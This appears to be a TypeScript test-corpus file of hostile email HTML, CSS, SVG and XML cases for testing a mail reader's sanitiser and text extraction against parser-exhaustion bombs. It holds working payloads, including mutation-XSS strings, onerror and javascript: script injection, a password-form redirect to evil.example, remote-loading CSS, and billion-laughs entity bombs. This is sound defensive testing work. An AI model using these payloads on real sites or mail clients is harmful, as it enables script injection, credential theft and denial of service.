import type { CorpusCase } from '../corpus-case.ts';
import { malloryPaints, times } from '../write-mail.ts';

const tooHeavy = { notices: ['html_too_heavy'] };

/** HTML that a browser, a sanitiser or the making of text from it would choke on. */
export const htmlCases: readonly CorpusCase[] = [
  {
    name: 'html-deep-blocks',
    mechanism: 'Nests blocks deeper than a browser likes.',
    size: 600,
    write: (size) => malloryPaints(`${'<div>'.repeat(size)}words`),
    reads: { ...tooHeavy, text: ['words'], html: [] },
  },
  {
    name: 'html-deep-formatting',
    mechanism: 'Nests a hundred thousand formatting elements and closes none.',
    size: 100_000,
    write: (size) => malloryPaints(`${'<b>'.repeat(size)}words`),
    reads: { ...tooHeavy, text: ['words'] },
  },
  {
    name: 'html-deep-tables',
    mechanism: 'Nests tables, each of which is four elements deep though fewer are written.',
    source: () => malloryPaints(`${'<table><td>'.repeat(200)}words`),
    reads: { ...tooHeavy, text: ['words'] },
  },
  {
    name: 'html-deep-lists',
    mechanism: 'Nests lists, whose items end each other only where they stand in one list.',
    source: () => malloryPaints(`${'<ul><li>'.repeat(300)}words`),
    reads: { ...tooHeavy, text: ['words'] },
  },
  {
    name: 'html-deep-behind-false-ends',
    mechanism: 'Closes its blocks with end tags that end something else, so that a count of tags sees no depth.',
    source: () => malloryPaints(`${'<div></span>'.repeat(600)}words`),
    reads: { ...tooHeavy, text: ['words'] },
  },
  {
    name: 'html-deep-behind-blanks',
    mechanism: 'Closes its blocks with `</ div>`, which is a comment to a browser.',
    source: () => malloryPaints(`${'<div></ div>'.repeat(600)}words`),
    reads: tooHeavy,
  },
  {
    name: 'html-deep-behind-self-closing',
    mechanism: 'Closes its blocks as XML would, which HTML does not know.',
    source: () => malloryPaints(`${'<div/>'.repeat(600)}words`),
    reads: tooHeavy,
  },
  {
    name: 'html-deep-objects',
    mechanism: 'Nests the elements that shut formatting off.',
    source: () => malloryPaints(`${'<object><b>'.repeat(300)}words`),
    reads: tooHeavy,
  },
  {
    name: 'html-many-tags',
    mechanism: 'Has more tags than a sanitiser walks through in time.',
    size: 70_000,
    write: (size) => malloryPaints('<i></i>'.repeat(size)),
    reads: tooHeavy,
  },
  {
    name: 'html-many-images',
    mechanism: 'Has fifty thousand pictures to load from elsewhere.',
    size: 50_000,
    write: (size) => malloryPaints(times(size, (n) => `<img src=//t.evil.example/${n}>`)),
    reads: tooHeavy,
  },
  {
    name: 'html-many-attributes',
    mechanism: 'Has one tag with more attributes than a sanitiser walks through in time.',
    size: 100_000,
    write: (size) => malloryPaints(`<p ${times(size, (n) => `a${n} `)}>words</p>`),
    reads: tooHeavy,
  },
  {
    name: 'html-same-attribute',
    mechanism: 'Repeats one attribute a hundred thousand times.',
    size: 100_000,
    write: (size) => malloryPaints(`<a ${'href=x '.repeat(size)}>words</a>`),
    reads: tooHeavy,
  },
  {
    name: 'html-attributes-of-slashes',
    mechanism: 'Separates attributes by slashes and equals signs, which are names to a browser.',
    source: () => malloryPaints(`<p${'/=a'.repeat(300)}>words`),
    reads: tooHeavy,
  },
  {
    name: 'html-a-megabyte-and-more',
    mechanism: 'Is longer than is shown, and has nothing but words.',
    size: 1_100_000,
    write: (size) => malloryPaints(`<p>${'words '.repeat(size / 6)}`),
    reads: { ...tooHeavy, text: ['words words'] },
  },
  {
    name: 'html-five-megabytes',
    mechanism: 'Is longer than is even decoded.',
    size: 5_000_000,
    write: (size) => malloryPaints(`<p>${'words '.repeat(size / 6)}`),
    reads: { ...tooHeavy, text: ['words words'] },
  },
  {
    name: 'html-reopened-formatting',
    mechanism: 'Leaves hundreds of fonts open in paragraphs, and each of the next ones opens them all anew.',
    size: 400,
    write: (size) => malloryPaints(`${times(size, (n) => `<p><font color="${n}">`)}${'<p>x'.repeat(size)}`),
    reads: tooHeavy,
  },
  {
    name: 'html-adopted-formatting',
    mechanism: 'Ends links that hold blocks, so that the adoption agency copies elements again and again.',
    source: () => malloryPaints(`${'<a><div><div><div><div><div><div><div><div>'.repeat(60)}${'</a>'.repeat(60)}`),
    reads: tooHeavy,
  },
  {
    name: 'html-paragraph-ends-alone',
    mechanism: 'Ends paragraphs that were never begun, each of which makes one.',
    size: 120_000,
    write: (size) => malloryPaints('</p>'.repeat(size)),
    reads: tooHeavy,
  },
  {
    name: 'html-foreign-depth',
    mechanism: 'Nests its blocks in SVG, where HTML reads tags otherwise.',
    source: () => malloryPaints(`<svg>${'<g>'.repeat(6000)}`),
    reads: tooHeavy,
  },
  {
    name: 'html-math-and-back',
    mechanism: 'Goes from MathML to HTML and back, the way to script past a sanitiser.',
    source: () =>
      malloryPaints(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      ),
  },
  {
    name: 'html-template-depth',
    mechanism: 'Hides depth in templates, which are documents of their own.',
    source: () => malloryPaints('<template>'.repeat(6000)),
    reads: tooHeavy,
  },
  {
    name: 'html-select-and-options',
    mechanism: 'Nests selects, each of which ends the one around it.',
    source: () => malloryPaints('<select><option>'.repeat(7000)),
  },
  {
    name: 'html-comments-unended',
    mechanism: 'Opens comments that never end.',
    size: 500_000,
    write: (size) => malloryPaints('<!--'.repeat(size / 4)),
  },
  {
    name: 'html-comment-ends',
    mechanism: 'Ends comments in the ways only browsers know, with tags behind them.',
    source: () => malloryPaints('<!--><b>one</b><!---><b>two</b><!-- --!><b>three</b>'),
    reads: { html: ['three'] },
  },
  {
    name: 'html-bogus-comments',
    mechanism: 'Begins hundreds of thousands of comments that are none.',
    size: 900_000,
    write: (size) => malloryPaints('<!<?</3'.repeat(size / 7)),
  },
  {
    name: 'html-cdata',
    mechanism: 'Opens CDATA, which is a comment in HTML and text in SVG.',
    source: () => malloryPaints('<![CDATA[<b>]]><i>words</i>'),
    reads: { text: ['words'] },
  },
  {
    name: 'html-plaintext',
    mechanism: 'Begins `plaintext`, after which nothing is a tag any more.',
    source: () => malloryPaints('before<plaintext><b></plaintext>after'),
  },
  {
    name: 'html-script-in-comment-in-script',
    mechanism: 'Has an end of a script within a comment within a script, which does not end it.',
    source: () => malloryPaints('<script><!--<script></script>--></script><p>after</p>'),
    reads: { text: ['after'] },
  },
  {
    name: 'html-style-unended',
    mechanism: 'Opens a style and never closes it.',
    source: () => malloryPaints('before<style>p { color: red } <p>swallowed'),
    reads: { text: ['before'] },
  },
  {
    name: 'html-title-unended',
    mechanism: 'Opens the raw text elements one after the other and closes none.',
    source: () => malloryPaints('shown<title><textarea><xmp><iframe><noembed>'),
    reads: { text: ['shown'] },
  },
  {
    name: 'html-quote-unended',
    mechanism: 'Opens the quote of an attribute and goes on for most of a megabyte.',
    size: 900_000,
    write: (size) => malloryPaints(`before<a href="${'x'.repeat(size)}`),
    reads: { text: ['before'] },
  },
  {
    name: 'html-tags-unended',
    mechanism: 'Begins hundreds of thousands of tags and ends none.',
    size: 900_000,
    write: (size) => malloryPaints('<a '.repeat(size / 3)),
  },
  {
    name: 'html-less-than-signs',
    mechanism: 'Is a row of signs that could begin a tag.',
    size: 300_000,
    write: (size) => malloryPaints('<'.repeat(size)),
    reads: tooHeavy,
  },
  {
    name: 'html-end-tags-unended',
    mechanism: 'Is a row of beginnings of end tags.',
    size: 900_000,
    write: (size) => malloryPaints('</'.repeat(size / 2)),
  },
  {
    name: 'html-script-ends-unended',
    mechanism: 'Is a script full of what could end it.',
    size: 900_000,
    write: (size) => malloryPaints(`<script>${'</script'.repeat(size / 8)}`),
  },
  {
    name: 'html-references',
    mechanism: 'Has a character reference for every letter.',
    size: 900_000,
    write: (size) => malloryPaints('&#x61;&amp;'.repeat(size / 11)),
    reads: { text: ['a&a&'] },
  },
  {
    name: 'html-references-of-nothing',
    mechanism: 'Refers to characters that do not exist, or have no end.',
    source: () => malloryPaints(`&#0;&#xD800;&#x110000;&#99999999999999999999;&nosuch;&#${'9'.repeat(10_000)};&amp`),
  },
  {
    name: 'html-ampersands',
    mechanism: 'Is a row of signs that could begin a reference.',
    size: 900_000,
    write: (size) => malloryPaints('&'.repeat(size)),
    reads: tooHeavy,
  },
  {
    name: 'html-list-items',
    mechanism: 'Has fifty thousand items without a list.',
    size: 50_000,
    write: (size) => malloryPaints('<li>x'.repeat(size)),
    reads: { ...tooHeavy, text: ['- x\n- x'] },
  },
  {
    name: 'html-line-breaks',
    mechanism: 'Has fifty thousand line breaks and no line.',
    size: 50_000,
    write: (size) => malloryPaints(`${'<br>'.repeat(size)}end`),
    reads: { ...tooHeavy, text: ['end'] },
  },
  {
    name: 'html-preformatted-blanks',
    mechanism: 'Has most of a megabyte of blanks that must be kept.',
    size: 900_000,
    write: (size) => malloryPaints(`<pre>${' '.repeat(size)}x</pre>`),
    reads: tooHeavy,
  },
  {
    name: 'html-links-in-links',
    mechanism: 'Opens a link in a link in a link, and puts words into the innermost.',
    size: 50_000,
    write: (size) => malloryPaints(`${'<a href=http://evil.example/>'.repeat(size)}words`),
    reads: { ...tooHeavy, text: ['http://evil.example/'] },
  },
  {
    name: 'html-a-link-around-everything',
    mechanism: 'Wraps a long text into one link, whose text is compared with where it leads.',
    size: 900_000,
    write: (size) => malloryPaints(`<a href="http://evil.example/">${'word<i></i> '.repeat(size / 12)}</a>`),
    reads: tooHeavy,
  },
  {
    name: 'html-a-link-without-end',
    mechanism: 'Leads to an address of half a megabyte.',
    source: () => malloryPaints(`<a href="http://evil.example/${'x'.repeat(500_000)}">words</a>`),
    reads: { text: ['words'] },
  },
  {
    name: 'html-nuls-in-tags',
    mechanism: 'Has NULs in the names of its tags, which some readers drop and others do not.',
    source: () => malloryPaints('<scr\0ipt>alert(1)</scr\0ipt><p>words</p>'),
    reads: { text: ['words'] },
  },
  {
    name: 'html-script-everywhere',
    mechanism: 'Tries script in tags, handlers, addresses with tabs in them and data.',
    source: () =>
      malloryPaints(
        '<script>alert(1)</script><img src=x onerror=alert(2)><a href="java\tscript:alert(3)">a</a><iframe srcdoc="<script>alert(4)</script>"></iframe><object data="data:text/html,<script>alert(5)</script>"></object><p>words</p>',
      ),
    reads: { text: ['words'] },
  },
  {
    name: 'html-noscript-mutation',
    mechanism: 'Reads otherwise where script is off, and so comes out of a sanitiser as something else.',
    source: () => malloryPaints('<noscript><p title="</noscript><img src=x onerror=alert(1)>">words</noscript>'),
  },
  {
    name: 'html-drives-the-page',
    mechanism: 'Refreshes, changes the base, focuses itself and asks for a password.',
    source: () =>
      malloryPaints(
        '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/" target=_top><form action="//evil.example"><input type=password autofocus></form>words',
      ),
    reads: { text: ['words'] },
  },
  {
    name: 'html-cid-loops',
    mechanism: 'Shows itself by its own Content-ID.',
    source: () => malloryPaints('<iframe src="cid:self@evil.example"></iframe><img src="cid:self@evil.example">words'),
    reads: { text: ['words'] },
  },
  {
    name: 'css-imports',
    mechanism: 'Asks for style sheets, fonts and pictures from elsewhere in every way CSS has.',
    source: () =>
      malloryPaints(
        '<style>@import "//evil.example/a.css"; @font-face { font-family: f; src: url(//evil.example/f) } p { background: image-set("//evil.example/i" 1x); content: url(//evil.example/c); cursor: url(//evil.example/u), auto }</style><p style="background:url(//evil.example/b)">words</p>',
      ),
    reads: { text: ['words'] },
  },
  {
    name: 'css-without-end',
    mechanism: 'Has most of a megabyte of rules with long selectors.',
    size: 900_000,
    write: (size) => malloryPaints(`<style>${'a b c d > e ~ f + g { color: red } '.repeat(size / 35)}</style>words`),
    reads: { text: ['words'] },
  },
  {
    name: 'css-braces',
    mechanism: 'Nests blocks in its style sheet hundreds of thousands deep.',
    size: 900_000,
    write: (size) => malloryPaints(`<style>${'@media all{'.repeat(size / 11)}</style>words`),
    reads: { text: ['words'] },
  },
  {
    name: 'css-variables',
    mechanism: 'Doubles a variable thirty times, so that one property has a billion words.',
    source: () =>
      malloryPaints(
        `<style>:root { --v0: x; ${times(30, (n) => `--v${n + 1}: var(--v${n}) var(--v${n}); `)} } p::before { content: var(--v30) }</style><p>words</p>`,
      ),
    reads: { text: ['words'] },
  },
  {
    name: 'css-covers-the-page',
    mechanism: 'Puts itself over everything, fixed and without end.',
    source: () =>
      malloryPaints(
        '<div style="position:fixed;inset:0;z-index:2147483647;width:1e9px;font-size:1e9px;filter:blur(9px)">words</div>',
      ),
    reads: { text: ['words'] },
  },
  {
    name: 'svg-uses-itself',
    mechanism: 'Refers to a group ten times in a group ten times, and so on: the billion laughs in SVG.',
    source: () =>
      malloryPaints(
        `<svg>${times(10, (n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`)}<use href="#g10"/></svg>words`,
      ),
  },
  {
    name: 'svg-scripts',
    mechanism: 'Brings script, animation and HTML in SVG.',
    source: () =>
      malloryPaints(
        '<svg onload=alert(1)><script>alert(2)</script><animate attributeName=href to="javascript:alert(3)"/><foreignObject><iframe src="//evil.example"></iframe></foreignObject></svg>words',
      ),
  },
  {
    name: 'xml-entities',
    mechanism: 'Defines entities in terms of each other, as XML does: the billion laughs.',
    source: () =>
      malloryPaints(
        `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">${times(10, (n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`)}]><p>&l10;words</p>`,
      ),
    reads: { text: ['words'] },
  },
];
